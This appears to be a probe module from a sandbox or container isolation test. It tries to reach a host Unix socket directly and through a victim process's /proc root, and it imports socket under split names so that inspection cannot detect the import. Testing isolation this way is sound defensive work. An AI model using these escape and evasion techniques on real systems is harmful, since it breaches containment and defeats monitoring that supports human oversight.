"""Connects to a Unix socket of the host by path, through the library and bypassing it."""

import importlib

# Not imported by name, which inspection would detect.
_socket, socket = (importlib.import_module(name + "cket") for name in ("_so", "so"))


def execute(params):
    refusals = []
    places = [params["unix_socket"], "/proc/%d/root%s" % (params["victim_pid"], params["unix_socket"])]
    for make in (socket.socket, _socket.socket):
        for place in places:
            try:
                peer = make(socket.AF_UNIX, socket.SOCK_STREAM)
                peer.connect(place)
                return {"succeeded": True, "evidence": peer.recv(200).decode()}
            except OSError as error:
                refusals.append(error)
    raise refusals[0]
